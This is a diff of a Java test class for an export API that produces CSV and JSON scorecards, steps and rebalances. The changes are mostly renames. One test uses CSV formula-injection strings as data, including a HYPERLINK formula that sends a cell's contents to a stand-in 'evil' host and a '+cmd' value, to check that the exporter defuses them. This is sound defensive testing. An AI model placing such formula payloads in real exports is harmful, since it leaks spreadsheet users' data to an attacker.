@@ -33,14 +33,14 @@ class ExportTest {
     final WebFixture web = new WebFixture();
 
     @BeforeEach
-    void a_lesson_was_held() {
+    void a_lab_was_used() {
         Map<String, Long> wrong = Map.of("NO_MATCH", 1L, "MISSING_FIELD:reason", 2L, "NEW_CODE", 4L);
         web.lab.score = new Score(33, 4, wrong, Optional.of(new Coverage(40, 30, List.of(new Position(0, 118)))));
         web.lab.deleted = new RetentionLoss(9, 8, UnreadUsers.NONE);
     }
 
     @Test
-    void scorecards_are_a_line_a_team_with_a_column_for_each_code() throws Exception {
+    void scorecards_have_a_line_for_each_team_and_a_column_for_each_code() throws Exception {
         HttpResponse<String> answer = instructor(CSV + "scorecards");
 
         assertThat(answer.headers().firstValue("Content-Type")).contains("text/csv; charset=utf-8");
@@ -57,7 +57,7 @@ class ExportTest {
     }
 
     @Test
-    void steps_are_a_line_each_with_their_times() throws Exception {
+    void steps_have_a_line_each_with_their_times() throws Exception {
         assertThat(instructor(CSV + "steps").body())
                 .isEqualTo("team,step,at_utc,at_ms\r\n"
                         + "team-1,CONNECTED,1970-01-01T00:00:01.000Z,1000\r\n"
@@ -65,12 +65,12 @@ class ExportTest {
     }
 
     @Test
-    void rebalances_are_told_with_hostile_names_defused() throws Exception {
-        Rebalance told = new Told().by("m-c", Cause.MEMBER_JOINED).rebalance();
+    void rebalances_are_exported_with_hostile_names_defused() throws Exception {
+        Rebalance original = new Told().by("m-c", Cause.MEMBER_JOINED).rebalance();
         Rebalance foreign =
                 new Told().by("=1+1", Cause.UNKNOWN).move(4, "m-b", "=1+1").rebalance();
-        web.lab.rebalances =
-                List.of(hostile(told, "=HYPERLINK(\"http://evil/\"&A1)", "+cmd, \"now\""), hostile(foreign, "x", "-1"));
+        web.lab.rebalances = List.of(
+                hostile(original, "=HYPERLINK(\"http://evil/\"&A1)", "+cmd, \"now\""), hostile(foreign, "x", "-1"));
 
         List<String> lines =
                 instructor(CSV + "rebalances").body().lines().limit(3).toList();
@@ -89,7 +89,7 @@ class ExportTest {
     }
 
     @Test
-    void all_of_it_is_one_object_in_json() throws Exception {
+    void the_results_are_one_object_in_json() throws Exception {
         web.lab.rebalances = List.of(new Told().by("m-c", Cause.MEMBER_JOINED).rebalance());
 
         HttpResponse<String> answer = instructor("/api/v1/export?format=json");
@@ -127,28 +127,28 @@ class ExportTest {
                 "format=csv&table=STEPS | table: must be one of scorecards, steps, rebalances",
                 "format=json&table=steps | table: only for format=csv; JSON has all tables",
             })
-    void what_does_not_exist_is_refused(String query, String line) throws Exception {
+    void an_unknown_format_or_table_is_refused(String query, String line) throws Exception {
         HttpResponse<String> answer = instructor("/api/v1/export?" + query);
 
         assertThat(answer.statusCode()).isEqualTo(400);
         assertThat(answer.body()).isEqualTo("{\"error\":\"" + line + "\"}");
     }
 
-    private static Rebalance hostile(Rebalance told, String clientId, String detail) {
-        Rebalance.Reason why = told.reason();
+    private static Rebalance hostile(Rebalance original, String clientId, String detail) {
+        Rebalance.Reason why = original.reason();
         return new Rebalance(
-                told.id(),
-                told.groupId(),
-                told.protocol(),
-                told.span(),
+                original.id(),
+                original.groupId(),
+                original.protocol(),
+                original.span(),
                 new Rebalance.Reason(why.cause(), why.precision(), detail, why.culprits(), why.follows()),
-                told.fromEpoch(),
-                told.toEpoch(),
+                original.fromEpoch(),
+                original.toEpoch(),
                 List.of(new Rebalance.Person("m-c", 2, clientId, Optional.empty())),
-                told.moves(),
+                original.moves(),
                 Set.of(),
-                told.handOvers(),
-                told.redelivered());
+                original.handOvers(),
+                original.redelivered());
     }
 
     private HttpResponse<String> instructor(String path) throws Exception {
